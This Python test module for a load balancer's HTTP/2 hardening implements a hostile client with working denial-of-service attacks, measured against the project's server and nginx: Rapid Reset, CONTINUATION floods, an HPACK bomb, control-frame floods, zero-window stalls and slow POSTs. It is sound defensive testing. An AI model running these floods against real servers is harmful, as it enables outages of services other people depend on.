"""A hostile HTTP/2 client: the attacks of issue 20, each one function over a fresh connection.

Frames are built by hand with ``hyperframe`` (and header blocks with ``hpack``, or byte by
byte where hpack would refuse: the HPACK bomb, uppercase names), because the ``h2`` state
machine refuses to send most of them. The server's answer is parsed frame by frame by the
same single-threaded pump that writes (``Answer``: GOAWAY code, RST_STREAM codes, the
``:status`` of each stream, DATA bytes, PING/SETTINGS ACK counts, whether the server closed
the TCP connection). ``Probe`` samples the server processes' CPU time and peak RSS while a
case runs, so the same case can be measured against nginx and prefork-lb.

    python -m tests.h2_hostile --port 27001 [--tls] [--pids 123,124] [--case rapid_reset]

prints one line per case. Every case is bounded (frame counts and deadlines), loopback only.
The cases (``CASES``): floods (rapid_reset, continuation_flood, settings_flood, ping_flood,
tiny_windows), decoder and encoder state (hpack_bomb, hpack_table_growth), stalls
(zero_window, zero_window_streams, slow_body), malformed requests (invalid_pseudo,
pseudo_after_regular, missing_path, uppercase_name, connection_header, te_gzip,
content_length_mismatch, connect), sizes (oversized_header, oversized_list, oversized_frame) and
window_overflow. The zero_window cases ask the backend for ``?size=`` bodies
(scripts/demo_backend.py); docs/http2.md has the table of answers beside nginx 1.22's.
"""

from __future__ import annotations

import argparse
import select
import socket
import ssl
import threading
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field

import hpack
import psutil
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
NO_ERROR = 0x0
PROTOCOL_ERROR = 0x1
INTERNAL_ERROR = 0x2
FLOW_CONTROL_ERROR = 0x3
FRAME_SIZE_ERROR = 0x6
REFUSED_STREAM = 0x7
COMPRESSION_ERROR = 0x9
ENHANCE_YOUR_CALM = 0xB
CODE_NAMES = {
    0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
    4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM",
    8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM",
    12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED",
}  # fmt: skip


def code_name(code: int | None) -> str:
    return "-" if code is None else CODE_NAMES.get(code, str(code))


# ---------------------------------------------------------------------------- connection


@dataclass
class Answer:
    """Everything the server sent on one connection."""

    goaway: int | None = None  # error code of the (last) GOAWAY
    goaway_last_stream: int | None = None
    resets: dict[int, int] = field(default_factory=dict)  # stream -> RST_STREAM code
    statuses: dict[int, int] = field(default_factory=dict)  # stream -> :status
    data: dict[int, int] = field(default_factory=dict)  # stream -> DATA bytes received
    ended: set[int] = field(default_factory=set)  # streams the server ended (END_STREAM)
    ping_acks: int = 0
    settings_acks: int = 0
    settings: dict[int, int] = field(default_factory=dict)  # the server's SETTINGS
    frames: int = 0
    bytes: int = 0
    closed: bool = False  # the server closed (or reset) the TCP connection
    closed_at: float | None = None  # time.monotonic() of the close
    decode_error: str = ""

    def status_counts(self) -> dict[int, int]:
        counts: dict[int, int] = {}
        for status in self.statuses.values():
            counts[status] = counts.get(status, 0) + 1
        return counts

    def reset_counts(self) -> dict[int, int]:
        counts: dict[int, int] = {}
        for code in self.resets.values():
            counts[code] = counts.get(code, 0) + 1
        return counts


class RawH2:
    """One client connection speaking raw frames, single-threaded: ``send`` and ``wait`` pump a
    non-blocking socket (writing what is queued, parsing whatever the server sent), so TLS
    needs no locking and a server that stops reading shows as ``send_blocked``."""

    def __init__(
        self,
        port: int,
        tls: bool = False,
        host: str = "127.0.0.1",
        settings: dict[int, int] | None = None,
        rcvbuf: int | None = None,
        read: bool = True,
    ) -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf is not None:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.settimeout(10)
        sock.connect((host, port))
        if tls:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            sock = ctx.wrap_socket(sock, server_hostname="localhost")
            assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
        sock.setblocking(False)
        self.sock = sock
        self.reading = read
        self.answer = Answer()
        self.sent = 0
        self.send_blocked = False  # the server stopped reading: a send made no progress for 10 s
        self.send_timeout_s = 10.0
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.encoder = hpack.Encoder()
        self.next_stream = 1
        self._out = bytearray()
        self._in = bytearray()
        self.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())

    # ---- the pump

    def _pump(self, timeout_s: float) -> None:
        """One round: write what is queued, read what arrived; waits at most ``timeout_s``."""
        if self.answer.closed:
            self._out.clear()
            return
        want_read = self.reading
        want_write = bool(self._out)
        if isinstance(self.sock, ssl.SSLSocket) and want_read and self.sock.pending():
            ready_r, ready_w = True, False
        else:
            r, w, _ = select.select(
                [self.sock] if want_read else [], [self.sock] if want_write else [], [], timeout_s
            )
            ready_r, ready_w = bool(r), bool(w)
        if ready_w:
            try:
                n = self.sock.send(self._out[:262144])
                del self._out[:n]
                self.sent += n
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                pass
            except OSError:
                self._drain()  # the server closed: what did it say before?
                return
        if ready_r:
            try:
                chunk = self.sock.recv(262144)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return
            except OSError:
                self._closed()
                return
            if not chunk:
                self._closed()
                return
            self.answer.bytes += len(chunk)
            self._in += chunk
            self._parse()

    def _drain(self, timeout_s: float = 2.0) -> None:
        """Writing failed: read what the server sent before it closed (a GOAWAY may be there)."""
        self._out.clear()
        self.reading = True
        deadline = time.monotonic() + timeout_s
        while not self.answer.closed and time.monotonic() < deadline:
            self._pump(0.2)
        if not self.answer.closed:
            self._closed()

    def _closed(self) -> None:
        self.answer.closed = True
        self.answer.closed_at = time.monotonic()
        self._out.clear()

    def _parse(self) -> None:
        while len(self._in) >= 9:
            f, length = Frame.parse_frame_header(memoryview(bytes(self._in[:9])))
            if len(self._in) < 9 + length:
                return
            f.parse_body(memoryview(bytes(self._in[9 : 9 + length])))
            del self._in[: 9 + length]
            self._on_frame(f)

    # ---- sending

    def send(self, data: bytes) -> bool:
        """Queue ``data`` and pump until it is written; False when the server closed, or
        stopped reading for ``send_timeout_s`` (``send_blocked``)."""
        self._out += data
        last = time.monotonic()
        while self._out and not self.answer.closed:
            before = len(self._out)
            self._pump(0.2)
            if len(self._out) < before:
                last = time.monotonic()
            elif time.monotonic() - last > self.send_timeout_s:
                self.send_blocked = True
                return False
        return not self.answer.closed

    def frame(self, f: Frame) -> bool:
        return self.send(f.serialize())

    def stream_id(self) -> int:
        sid = self.next_stream
        self.next_stream += 2
        return sid

    def request_block(
        self,
        path: str = "/",
        extra: Sequence[tuple[str, str]] = (),
        method: str = "GET",
        authority: str = "localhost",
    ) -> bytes:
        headers = [
            (":method", method),
            (":scheme", "http"),
            (":authority", authority),
            (":path", path),
            *extra,
        ]
        return bytes(self.encoder.encode(headers))

    def get(self, path: str = "/", extra: Sequence[tuple[str, str]] = (), end_stream: bool = True) -> int:
        sid = self.stream_id()
        flags = ["END_HEADERS"] + (["END_STREAM"] if end_stream else [])
        self.frame(HeadersFrame(sid, self.request_block(path, extra), flags=flags))
        return sid

    # ---- receiving

    def _on_frame(self, f: Frame) -> None:
        a = self.answer
        a.frames += 1
        if isinstance(f, HeadersFrame):
            try:
                for name, value in self.decoder.decode(f.data, raw=True):
                    if name == b":status":
                        a.statuses[f.stream_id] = int(value)
            except Exception as exc:
                a.decode_error = repr(exc)
            if "END_STREAM" in f.flags:
                a.ended.add(f.stream_id)
        elif isinstance(f, DataFrame):
            a.data[f.stream_id] = a.data.get(f.stream_id, 0) + len(f.data)
            if "END_STREAM" in f.flags:
                a.ended.add(f.stream_id)
        elif isinstance(f, RstStreamFrame):
            a.resets[f.stream_id] = f.error_code
        elif isinstance(f, GoAwayFrame):
            a.goaway = f.error_code
            a.goaway_last_stream = f.last_stream_id
        elif isinstance(f, PingFrame):
            if "ACK" in f.flags:
                a.ping_acks += 1
            else:
                self._out += PingFrame(0, opaque_data=f.opaque_data, flags=["ACK"]).serialize()
        elif isinstance(f, SettingsFrame):
            if "ACK" in f.flags:
                a.settings_acks += 1
            else:
                a.settings.update(f.settings)
                self._out += SettingsFrame(0, flags=["ACK"]).serialize()

    def start_reading(self) -> None:
        self.reading = True

    def wait(self, predicate: Callable[[Answer], bool], timeout_s: float = 10.0) -> bool:
        """Pump until ``predicate(answer)``, the server closed, or the deadline; the predicate's value."""
        deadline = time.monotonic() + timeout_s
        self.reading = True
        while not predicate(self.answer):
            left = deadline - time.monotonic()
            if left <= 0 or self.answer.closed:
                return predicate(self.answer)
            self._pump(min(left, 0.2))
        return True

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


# ---------------------------------------------------------------------------- measurement


class Probe:
    """CPU seconds and peak RSS (sum over ``pids``) while a case runs; sampled every 20 ms."""

    def __init__(self, pids: Sequence[int]) -> None:
        self.procs = [psutil.Process(p) for p in pids]
        self.cpu_s = 0.0
        self.rss_before = 0
        self.rss_peak = 0
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None

    def _cpu(self) -> float:
        total = 0.0
        for p in self.procs:
            try:
                t = p.cpu_times()
                total += t.user + t.system
            except psutil.Error:
                pass
        return total

    def _rss(self) -> int:
        total = 0
        for p in self.procs:
            try:
                total += p.memory_info().rss
            except psutil.Error:
                pass
        return total

    def _sample(self) -> None:
        while not self._stop.wait(0.02):
            self.rss_peak = max(self.rss_peak, self._rss())

    def __enter__(self) -> Probe:
        self._cpu0 = self._cpu()
        self.rss_before = self.rss_peak = self._rss()
        self._thread = threading.Thread(target=self._sample, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join()
        self.rss_peak = max(self.rss_peak, self._rss())
        self.cpu_s = self._cpu() - self._cpu0

    @property
    def rss_growth_kib(self) -> int:
        return (self.rss_peak - self.rss_before) // 1024


# ---------------------------------------------------------------------------- the cases


@dataclass
class Outcome:
    """What one case got back; ``verdict`` is the one-cell summary for the table."""

    case: str
    answer: Answer
    elapsed_s: float
    sent_bytes: int
    send_blocked: bool
    extra: dict[str, int] = field(default_factory=dict)
    cpu_s: float = 0.0
    rss_growth_kib: int = 0

    @property
    def verdict(self) -> str:
        a = self.answer
        parts = []
        if a.goaway is not None:
            parts.append(f"GOAWAY {code_name(a.goaway)}")
        resets = a.reset_counts()
        if resets:
            parts.append("RST " + ",".join(f"{code_name(c)}x{n}" for c, n in sorted(resets.items())))
        statuses = a.status_counts()
        if statuses:
            parts.append("status " + ",".join(f"{s}x{n}" for s, n in sorted(statuses.items())))
        if self.send_blocked:
            parts.append("server stopped reading")
        parts.append("closed" if a.closed else "open")
        return "; ".join(parts)

    def line(self) -> str:
        extra = " ".join(f"{k}={v}" for k, v in self.extra.items())
        return (
            f"{self.case:<22} {self.verdict:<60} t={self.elapsed_s:.2f}s sent={self.sent_bytes} "
            f"cpu={self.cpu_s:.2f}s rss+={self.rss_growth_kib}KiB {extra}"
        )


def _finish(case: str, c: RawH2, t0: float, **extra: int) -> Outcome:
    c.close()
    return Outcome(case, c.answer, time.monotonic() - t0, c.sent, c.send_blocked, dict(extra))


def _connected(c: RawH2) -> bool:
    return c.wait(lambda a: bool(a.settings), 5.0)


def rapid_reset(port: int, tls: bool = False, streams: int = 20000, path: str = "/") -> Outcome:
    """CVE-2023-44487: open a stream and cancel it at once, ``streams`` times, in batches of 100,
    never waiting for an answer. A bounded server answers a few, then GOAWAY (ENHANCE_YOUR_CALM
    or NO_ERROR) and closes; the backend count says how many reached the upstream."""
    t0 = time.monotonic()
    c = RawH2(port, tls)
    _connected(c)
    block = c.request_block(path)
    opened = 0
    for _ in range(streams // 100):
        batch = []
        for _ in range(100):
            sid = c.stream_id()
            # the same header block every time: hpack's dynamic table now holds these fields
            batch.append(HeadersFrame(sid, block, flags=["END_HEADERS", "END_STREAM"]).serialize())
            batch.append(RstStreamFrame(sid, error_code=CANCEL).serialize())
        if not c.send(b"".join(batch)):
            break
        opened += 100
        if c.answer.closed:
            break
    c.wait(lambda a: a.closed, 5.0)
    return _finish("rapid_reset", c, t0, opened=opened)


def continuation_flood(port: int, tls: bool = False, frames: int = 20000, size: int = 1024) -> Outcome:
    """CVE-2024-27316 class: HEADERS without END_HEADERS, then CONTINUATION frames with no end.
    Each fragment is a valid literal header (``x-f: <size-8 bytes>``, never indexed), so a
    server that decodes as it goes and one that buffers both see an endless header list."""
    t0 = time.monotonic()
    c = RawH2(port, tls)
    _connected(c)
    sid = c.stream_id()
    c.frame(HeadersFrame(sid, c.request_block("/"), flags=[]))
    value = b"v" * (size - 8)
    fragment = b"\x10" + _int(3, 7) + b"x-f" + _int(len(value), 7) + value  # literal, never indexed
    sent = 0
    for _ in range(frames // 50):
        if not c.send(b"".join(ContinuationFrame(sid, fragment).serialize() for _ in range(50))):
            break
        sent += 50
        if c.answer.closed:
            break
    c.wait(lambda a: a.closed, 5.0)
    return _finish("continuation_flood", c, t0, continuations=sent)


def _int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    """HPACK integer (RFC 7541 5.1) with ``first`` in the bits above the prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_bomb(port: int, tls: bool = False, value_size: int = 4000, refs: int = 4000) -> Outcome:
    """A ``value_size`` header inserted into the dynamic table (literal with incremental
    indexing), then one request whose block references it ``refs`` times (1 byte each): a few
    KiB on the wire, ``refs * value_size`` bytes once decoded (16 MB by default)."""
    t0 = time.monotonic()
    c = RawH2(port, tls)
    _connected(c)
    name, value = b"x-bomb", b"b" * value_size
    insert = b"\x40" + _int(len(name), 7) + name + _int(len(value), 7) + value
    # the client's own encoder knows nothing of the insert: build both blocks by hand
    base = b"\x82\x86\x84" + b"\x41" + _int(9, 7) + b"localhost"  # GET, http, /, :authority (indexed)
    sid = c.stream_id()
    c.frame(HeadersFrame(sid, base + insert, flags=["END_HEADERS", "END_STREAM"]))
    c.wait(lambda a: sid in a.ended or sid in a.resets or a.goaway is not None, 5.0)
    # the table now holds x-bomb at index 62 (base's :authority literal went in first, then x-bomb:
    # the newest entry is 62). Reference it refs times.
    sid2 = c.stream_id()
    block = base.replace(b"\x41", b"\x01", 1) + bytes([0x80 | 62]) * refs  # :authority without indexing
    chunks = [block[i : i + 16384] for i in range(0, len(block), 16384)]
    frames: list[Frame] = [
        HeadersFrame(sid2, chunks[0], flags=["END_STREAM"] + (["END_HEADERS"] if len(chunks) == 1 else []))
    ]
    for i, piece in enumerate(chunks[1:], 1):
        frames.append(ContinuationFrame(sid2, piece, flags=["END_HEADERS"] if i == len(chunks) - 1 else []))
    c.send(b"".join(f.serialize() for f in frames))
    c.wait(lambda a: a.closed or sid2 in a.resets or sid2 in a.ended, 5.0)
    return _finish("hpack_bomb", c, t0, wire_bytes=len(block), decoded_kib=refs * value_size // 1024)


def settings_flood(port: int, tls: bool = False, frames: int = 100000) -> Outcome:
    """``frames`` empty SETTINGS frames (each must be ACKed) written without reading the ACKs:
    a bounded server stops reading, or says GOAWAY, instead of queueing ACKs without end."""
    return _control_flood("settings_flood", port, tls, SettingsFrame(0).serialize(), frames)


def ping_flood(port: int, tls: bool = False, frames: int = 100000) -> Outcome:
    """``frames`` PINGs written without reading the ACKs (as ``settings_flood``)."""
    return _control_flood("ping_flood", port, tls, PingFrame(0, opaque_data=b"12345678").serialize(), frames)


def _control_flood(case: str, port: int, tls: bool, frame: bytes, frames: int) -> Outcome:
    t0 = time.monotonic()
    c = RawH2(port, tls, read=False, rcvbuf=4096)
    c.send_timeout_s = 3.0
    sent = 0
    batch = frame * 1000
    for _ in range(frames // 1000):
        if not c.send(batch):
            break
        sent += 1000
    c.start_reading()  # now drain what the server queued for us
    c.wait(lambda a: a.closed, 5.0)
    return _finish(case, c, t0, frames_sent=sent)


def zero_window(
    port: int, tls: bool = False, path: str = "/?size=10485760", timeout_s: float = 30.0
) -> Outcome:
    """The client advertises INITIAL_WINDOW_SIZE 0 and never sends WINDOW_UPDATE, then asks for
    a 10 MiB body: the server may send the head and no DATA; it must bound what it buffers and
    end the stream or the connection at its send timeout. ``elapsed_s`` is when it closed."""
    t0 = time.monotonic()
    c = RawH2(port, tls, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    _connected(c)
    sid = c.get(path)
    c.wait(lambda a: a.closed or sid in a.resets, timeout_s)
    closed_after = (c.answer.closed_at or time.monotonic()) - t0
    return _finish(
        "zero_window", c, t0, closed_after_ms=int(closed_after * 1000), data=c.answer.data.get(sid, 0)
    )


def zero_window_streams(
    port: int, tls: bool = False, streams: int = 128, path: str = "/?size=10485760", timeout_s: float = 30.0
) -> Outcome:
    """``zero_window`` on ``streams`` streams at once (a 10 MiB body each, 1.3 GB in all): what
    the server holds for them must stay bounded (per stream, not per body) until its send
    timeout ends them."""
    t0 = time.monotonic()
    c = RawH2(port, tls, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    _connected(c)
    sids = [c.get(path) for _ in range(streams)]
    c.wait(lambda a: a.closed or all(s in a.resets or s in a.ended for s in sids), timeout_s)
    closed_after = (c.answer.closed_at or time.monotonic()) - t0
    data = sum(c.answer.data.get(s, 0) for s in sids)
    return _finish("zero_window_streams", c, t0, closed_after_ms=int(closed_after * 1000), data=data)


def hpack_table_growth(port: int, tls: bool = False, requests: int = 300) -> Outcome:
    """The client advertises SETTINGS_HEADER_TABLE_SIZE 2^31-1 and makes ``requests`` requests
    whose responses carry distinct values (the demo backend's X-Conn-Requests, ``?u=``
    echoed nowhere but the path varies the log only). ``table_bytes`` is the size of the
    client's mirror of the server's encoder table: what the server keeps per connection."""
    t0 = time.monotonic()
    c = RawH2(port, tls, settings={SettingsFrame.HEADER_TABLE_SIZE: 2**31 - 1})
    c.decoder.max_allowed_table_size = 2**31 - 1
    _connected(c)
    done = 0
    while done < requests:
        sids = [c.get(f"/?bigheader={100 + done + i}") for i in range(50)]

        def answered(a: Answer, sids: list[int] = sids) -> bool:
            return a.closed or all(s in a.ended or s in a.resets for s in sids)

        c.wait(answered, 10.0)
        done += 50
        if c.answer.closed:
            break
    table = int(c.decoder.header_table._current_size)
    return _finish("hpack_table_growth", c, t0, table_bytes=table, ok=c.answer.status_counts().get(200, 0))


def tiny_windows(port: int, tls: bool = False, updates: int = 20000, path: str = "/?size=1048576") -> Outcome:
    """A window of 1 byte, then ``updates`` WINDOW_UPDATEs of 1 byte each on the stream and the
    connection: a server that sends whatever the window allows makes one DATA frame (and one
    send) per byte the client grants. ``data`` is what came back."""
    t0 = time.monotonic()
    c = RawH2(port, tls, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 1})
    _connected(c)
    sid = c.get(path)
    one = (
        WindowUpdateFrame(sid, window_increment=1).serialize()
        + WindowUpdateFrame(0, window_increment=1).serialize()
    )
    sent = 0
    for _ in range(updates // 500):
        if not c.send(one * 500):
            break
        sent += 500
        c.wait(lambda a: a.closed, 0.0)
    c.wait(lambda a: a.closed or sid in a.resets or sid in a.ended, 1.0)
    frames = c.answer.frames
    return _finish("tiny_windows", c, t0, updates=sent, data=c.answer.data.get(sid, 0), frames=frames)


def slow_body(
    port: int,
    tls: bool = False,
    streams: int = 128,
    timeout_s: float = 20.0,
    during: Callable[[], int] | None = None,
) -> Outcome:
    """``streams`` POSTs announcing ``content-length: 100`` whose body never comes (slow POST
    on every stream of one connection). ``held`` is ``during()`` one second in (the caller
    counts the backend's open connections: a server that streams request bodies connects
    upstream per stream); ``ended_ms`` is when the last stream was ended (client_body_timeout)."""
    t0 = time.monotonic()
    c = RawH2(port, tls)
    _connected(c)
    sids = []
    for _ in range(streams):
        sid = c.stream_id()
        block = c.request_block("/?echo=1", (("content-length", "100"),), method="POST")
        c.frame(HeadersFrame(sid, block, flags=["END_HEADERS"]))
        sids.append(sid)
    c.wait(lambda a: a.closed, 1.0)
    held = during() if during is not None else -1
    c.wait(lambda a: a.closed or all(s in a.resets or s in a.ended for s in sids), timeout_s)
    ended_ms = int((time.monotonic() - t0) * 1000)
    return _finish("slow_body", c, t0, held=held, ended_ms=ended_ms)


def _one_request(
    case: str, port: int, tls: bool, block_of: Callable[[RawH2], bytes], body: bytes | None = None
) -> Outcome:
    """One request with a hand-made header block (and optional body); a good request on a
    second stream afterwards shows whether the connection survived."""
    t0 = time.monotonic()
    c = RawH2(port, tls)
    _connected(c)
    sid = c.stream_id()
    flags = ["END_HEADERS"] + ([] if body is not None else ["END_STREAM"])
    c.frame(HeadersFrame(sid, block_of(c), flags=flags))
    if body is not None:
        c.frame(DataFrame(sid, body, flags=["END_STREAM"]))
    c.wait(lambda a: a.closed or sid in a.resets or sid in a.ended or a.goaway is not None, 5.0)
    after = c.get("/")
    c.wait(lambda a: a.closed or after in a.ended or after in a.resets or a.goaway is not None, 5.0)
    ok_after = int(c.answer.statuses.get(after) == 200)
    return _finish(case, c, t0, stream=sid, next_ok=ok_after)


def _literal(name: bytes, value: bytes) -> bytes:
    """Literal header field without indexing, new name (the bytes as given: no lowercasing)."""
    return b"\x00" + _int(len(name), 7) + name + _int(len(value), 7) + value


def invalid_pseudo(port: int, tls: bool = False) -> Outcome:
    """An unknown pseudo-header ``:foo`` (RFC 9113 8.3: malformed, stream error)."""
    return _one_request(
        "invalid_pseudo", port, tls, lambda c: c.request_block("/") + _literal(b":foo", b"bar")
    )


def pseudo_after_regular(port: int, tls: bool = False) -> Outcome:
    """``:path`` after a regular field (RFC 9113 8.3: malformed)."""
    return _one_request(
        "pseudo_after_regular",
        port,
        tls,
        lambda c: b"\x82\x86\x41" + _int(9, 7) + b"localhost" + _literal(b"x-a", b"1") + b"\x84",
    )


def missing_path(port: int, tls: bool = False) -> Outcome:
    """No ``:path`` (RFC 9113 8.3.1: malformed)."""
    return _one_request("missing_path", port, tls, lambda c: b"\x82\x86\x41" + _int(9, 7) + b"localhost")


def uppercase_name(port: int, tls: bool = False) -> Outcome:
    """A header name with uppercase letters (RFC 9113 8.2.1: malformed)."""
    return _one_request(
        "uppercase_name", port, tls, lambda c: c.request_block("/") + _literal(b"X-Upper", b"1")
    )


def connection_header(port: int, tls: bool = False) -> Outcome:
    """``connection: keep-alive`` (RFC 9113 8.2.2: connection-specific, malformed)."""
    return _one_request(
        "connection_header",
        port,
        tls,
        lambda c: c.request_block("/") + _literal(b"connection", b"keep-alive"),
    )


def te_not_trailers(port: int, tls: bool = False) -> Outcome:
    """``te: gzip`` (only ``te: trailers`` is allowed in h2)."""
    return _one_request("te_gzip", port, tls, lambda c: c.request_block("/") + _literal(b"te", b"gzip"))


def content_length_mismatch(port: int, tls: bool = False) -> Outcome:
    """``content-length: 10`` with 5 bytes of DATA and END_STREAM (RFC 9113 8.1.1: malformed)."""
    return _one_request(
        "content_length_mismatch",
        port,
        tls,
        lambda c: c.request_block("/?echo=1", (("content-length", "10"),), method="POST"),
        body=b"12345",
    )


def connect_method(port: int, tls: bool = False) -> Outcome:
    """A CONNECT request (a proxy, not a tunnel: refused)."""
    return _one_request(
        "connect",
        port,
        tls,
        lambda c: bytes(c.encoder.encode([(":method", "CONNECT"), (":authority", "127.0.0.1:1")])),
    )


def oversized_header(port: int, tls: bool = False, size: int = 20000) -> Outcome:
    """One header value of ``size`` random-ish bytes (Huffman cannot shrink it much): nginx's
    answer to a field over large_client_header_buffers is GOAWAY ENHANCE_YOUR_CALM."""
    value = "".join(chr(33 + (i * 7919) % 90) for i in range(size))
    return _big_headers("oversized_header", port, tls, [("x-big", value)])


def oversized_list(port: int, tls: bool = False, fields: int = 10, size: int = 4000) -> Outcome:
    """``fields`` headers of ``size`` bytes each: each under 8k, the list over 32k in total."""
    headers = [
        (f"x-big-{i}", "".join(chr(33 + (i + j * 7919) % 90) for j in range(size))) for i in range(fields)
    ]
    return _big_headers("oversized_list", port, tls, headers)


def _big_headers(case: str, port: int, tls: bool, extra: list[tuple[str, str]]) -> Outcome:
    t0 = time.monotonic()
    c = RawH2(port, tls)
    _connected(c)
    sid = c.stream_id()
    block = c.request_block("/", extra)
    chunks = [block[i : i + 16384] for i in range(0, len(block), 16384)]
    frames: list[Frame] = [
        HeadersFrame(sid, chunks[0], flags=["END_STREAM"] + (["END_HEADERS"] if len(chunks) == 1 else []))
    ]
    for i, piece in enumerate(chunks[1:], 1):
        frames.append(ContinuationFrame(sid, piece, flags=["END_HEADERS"] if i == len(chunks) - 1 else []))
    c.send(b"".join(f.serialize() for f in frames))
    c.wait(lambda a: a.closed or sid in a.resets or sid in a.ended or a.goaway is not None, 5.0)
    c.wait(lambda a: a.closed, 2.0)
    return _finish(case, c, t0, encoded=len(block))


def oversized_frame(port: int, tls: bool = False, declared: int = 2**24 - 1, sent: int = 1 << 20) -> Outcome:
    """A DATA frame header declaring ``declared`` bytes (over the 16 KiB SETTINGS_MAX_FRAME_SIZE
    both servers advertise), then ``sent`` bytes of it: refused from its header, or from the
    first read, rather than buffered whole (RFC 9113 4.2: FRAME_SIZE_ERROR)."""
    t0 = time.monotonic()
    c = RawH2(port, tls)
    _connected(c)
    sid = c.get("/", end_stream=False)
    header = declared.to_bytes(3, "big") + b"\x00\x00" + sid.to_bytes(4, "big")
    c.send_timeout_s = 3.0
    c.send(header)
    for _ in range(sent // 65536):
        if not c.send(b"x" * 65536):
            break
    c.wait(lambda a: a.closed or a.goaway is not None, 2.0)  # refused at once, or accepted (nginx)
    return _finish("oversized_frame", c, t0)


def window_overflow(port: int, tls: bool = False) -> Outcome:
    """WINDOW_UPDATE pushing the connection window over 2^31-1 (RFC 9113 6.9.1: FLOW_CONTROL_ERROR)."""
    t0 = time.monotonic()
    c = RawH2(port, tls)
    _connected(c)
    c.frame(WindowUpdateFrame(0, window_increment=2**31 - 1))
    c.wait(lambda a: a.closed or a.goaway is not None, 5.0)
    return _finish("window_overflow", c, t0)


CASES: dict[str, Callable[[int, bool], Outcome]] = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "hpack_bomb": hpack_bomb,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "zero_window": zero_window,
    "zero_window_streams": zero_window_streams,
    "hpack_table_growth": hpack_table_growth,
    "tiny_windows": tiny_windows,
    "slow_body": slow_body,
    "invalid_pseudo": invalid_pseudo,
    "pseudo_after_regular": pseudo_after_regular,
    "missing_path": missing_path,
    "uppercase_name": uppercase_name,
    "connection_header": connection_header,
    "te_gzip": te_not_trailers,
    "content_length_mismatch": content_length_mismatch,
    "connect": connect_method,
    "oversized_header": oversized_header,
    "oversized_list": oversized_list,
    "oversized_frame": oversized_frame,
    "window_overflow": window_overflow,
}


def run(case: str, port: int, tls: bool = False, pids: Sequence[int] = ()) -> Outcome:
    """One case, measured on ``pids`` (the server's worker processes)."""
    if pids:
        with Probe(pids) as probe:
            out = CASES[case](port, tls)
        out.cpu_s, out.rss_growth_kib = probe.cpu_s, probe.rss_growth_kib
        return out
    return CASES[case](port, tls)


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--tls", action="store_true")
    ap.add_argument("--pids", default="", help="comma-separated server worker pids to measure")
    ap.add_argument("--case", action="append", choices=sorted(CASES), help="default: all")
    args = ap.parse_args()
    pids = [int(p) for p in args.pids.split(",") if p]
    for case in args.case or list(CASES):
        print(run(case, args.port, args.tls, pids).line(), flush=True)


if __name__ == "__main__":
    main()
